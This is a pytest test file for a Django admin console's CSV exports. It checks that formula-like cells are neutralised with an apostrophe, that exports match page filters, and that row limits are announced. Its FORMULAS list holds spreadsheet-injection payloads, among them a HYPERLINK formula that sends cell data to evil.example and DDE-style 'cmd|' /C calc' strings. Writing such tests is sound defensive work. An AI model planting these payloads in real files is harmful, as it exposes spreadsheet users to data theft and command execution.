"""The lists as files: the page's rows and no more, bounded, and nothing that a spreadsheet computes."""

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse

from console import csvfile, ranking
from jobs import effect_kinds
from jobs.models import Case, Job
from tests import build
from tests.console import matters, people
from tests.console.test_escape import EVIL, entangle, spread
from tests.operations import scene

pytestmark = [pytest.mark.django_db, pytest.mark.looks_alike]

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    "  @SUM(1+1)*cmd|' /C calc'!A0",
    "\u200b\u202e+1+1",
    "－2+3+cmd|' /C calc'!A0",
    "a;=1+1;\t@b\n+2;\n\n-3",
]
SEPARATORS = ",;\t"
"""What spreadsheets take for the end of a cell: only at a comma do they see our quotes as such."""


def rows_of(client, name, query=""):
    """Return the lines of a file, its head first, as a spreadsheet reads them."""
    answer = client.get(reverse(f"admin:{name}-export") + query)
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith(f'attachment; filename="{name}-')
    text = b"".join(answer.streaming_content).decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize(
    ("given", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\n=1", "'\n'=1"),
        ("a;=1", "a;'=1"),
        ("a; \u200b@b;c", "a;' \u200b@b;c"),
        ("a\t-1\r\n+1", "a\t'-1\r\n'+1"),
        (";;=1", ";;'=1"),
        ("   =1", "'   =1"),
        ("\u00a0\u3000=1", "'\u00a0\u3000=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u200b\u202e-1", "'\u200b\u202e-1"),
        ("＝1", "'＝1"),
        ("a=1", "a=1"),
        ("  a", "  a"),
        ("'=1", "'=1"),
        ("12.00", "12.00"),
        (None, ""),
        (0, "0"),
        (-7, "-7"),
        (Decimal("-42.00"), "-42.00"),
        (build.T0, "2026-03-01 12:00:00+00:00"),
    ],
)
def test_cell_that_could_be_a_formula_begins_with_an_apostrophe_and_others_stay(given, cell):
    assert csvfile.guarded(given) == cell


def test_export_by_tag_holds_its_jobs_and_computes_no_tag(viewer):
    people.jobs(2)
    evil = "=1+1"
    wanted = build.enqueue(tags=[evil, "vip"])
    head, row = rows_of(viewer, "jobs", "?tag=vip")
    assert row[0] == str(wanted)
    assert row[head.index("tags")] == f"'{evil} vip"


@pytest.mark.parametrize("evil", [*FORMULAS, EVIL[0]])
def test_nothing_that_was_stored_is_computed(browse, evil):
    client = browse("admin")
    entangle(evil, client)
    spread(evil)
    for name in ("jobs", "inbox", "audit"):
        head, *rows = rows_of(client, name)
        assert rows
        assert {len(row) for row in rows} == {len(head)}
        text = b"".join(client.get(reverse(f"admin:{name}-export")).streaming_content).decode()
        for separator in SEPARATORS:
            quotes: Any = csv.QUOTE_MINIMAL if separator == "," else csv.QUOTE_NONE
            lines = io.StringIO(text[1:], newline="")
            for row in csv.reader(lines, delimiter=separator, quoting=quotes):
                for cell in row:
                    seen = re.sub(r"^[\s\u200b-\u202e\ufeff]+", "", cell)
                    assert seen[:1] not in set("=+-@＝＋－＠\t\r"), (separator, cell)
    labels = {row[2] for row in rows_of(client, "jobs")}
    assert csvfile.guarded(evil[:200]) in labels


def test_file_holds_what_the_page_lists_under_the_same_filter(viewer):
    people.jobs(3, queue="mail", label="shown")
    people.jobs(2, queue="other")
    head, *rows = rows_of(viewer, "jobs", "?queue=mail&status=pending")
    page = viewer.get(reverse("admin:jobs") + "?queue=mail&status=pending").content.decode()
    assert [row[head.index("id")] for row in rows] == re.findall(r'name="job" value="([^"]+)"', page)
    assert {row[head.index("label")] for row in rows} == {"shown"}
    assert "/jobs/export/?status=pending&amp;queue=mail" in page


def test_jobs_input_is_not_in_the_file(viewer):
    build.enqueue({"card": "4111-secret"}, now=build.T0)
    assert "4111-secret" not in str(rows_of(viewer, "jobs"))


def test_cases_of_an_outage_stand_one_by_one_in_the_order_of_the_inbox(viewer, monkeypatch):
    monkeypatch.setattr(csvfile, "CHUNK", 2)
    made = [matters.open_case(amount=f"{n}.00") for n in range(1, 7)]
    head, *rows = rows_of(viewer, "inbox")
    assert [row[head.index("amount")][:1] for row in rows] == list("654321")
    assert {row[0] for row in rows} == {str(case.pk) for case in made}
    one = rows_of(viewer, "inbox", f"?like={made[0].pk}")
    assert len(one) == 7
    assert len(rows_of(viewer, "inbox", "?least=5")) == 3


def test_closed_cases_are_a_file_too_each_with_its_end(viewer, monkeypatch):
    monkeypatch.setattr("console.pages.export.CHUNK", 2)
    for n in range(5):
        case = matters.open_case(label=f"case {n}")
        matters.alter(case, closed_at=build.at(60 * n), closed_as="moot")
    ruled = scene.unknown()
    ruled.rule("happened", scene.user("ada", "rule_effect"), reason="seen in the statement")
    matters.open_case(label="open")
    head, first, *rows = rows_of(viewer, "inbox", "?state=closed")
    said = dict(zip(head, first, strict=True))
    assert [said[name] for name in ("id", "closed_as", "verdict", "by", "reason")] == [
        str(ruled.of("unknown").pk),
        *("ruled", "happened", "ada", "seen in the statement"),
    ]
    assert [row[head.index("label")] for row in rows] == [f"case {n}" for n in (4, 3, 2, 1, 0)]
    assert len(rows_of(viewer, "inbox", "?state=closed&label=case+3")) == 2
    effect_kinds.forget(scene.PAY)


@pytest.mark.parametrize(("limit", "told"), [(3, False), (2, True)])
def test_file_ends_at_its_bound_and_says_so(browse, monkeypatch, limit, told):
    monkeypatch.setattr(csvfile, "LIMIT", limit)
    monkeypatch.setattr("console.pages.export.CHUNK", 2)
    for _ in range(3):
        matters.open_case()
    client = browse("admin")
    assert Job.objects.count() == Case.objects.count() == 3
    for name in ("jobs", "inbox"):
        _, *rows = rows_of(client, name)
        assert len(rows) == limit + told
        assert (len(rows[-1]) == 1 and f"more than these {limit} rows" in rows[-1][0]) == told, name


def test_file_of_an_outage_too_large_to_rank_says_that_it_is_not_everything(viewer, monkeypatch):
    monkeypatch.setattr(ranking, "READ", 2)
    for _ in range(3):
        matters.open_case()
    assert "more than these 2 rows" in rows_of(viewer, "inbox")[-1][0]


def test_filter_that_cannot_be_applied_leads_to_the_page_that_says_so(viewer):
    for name, query in (("jobs", "statee=x"), ("inbox", "least=x")):
        answer = viewer.get(reverse(f"admin:{name}-export") + f"?{query}", follow=True)
        assert answer.redirect_chain[0][0] == reverse(f"admin:{name}") + f"?{query}"
        assert answer.status_code == 400
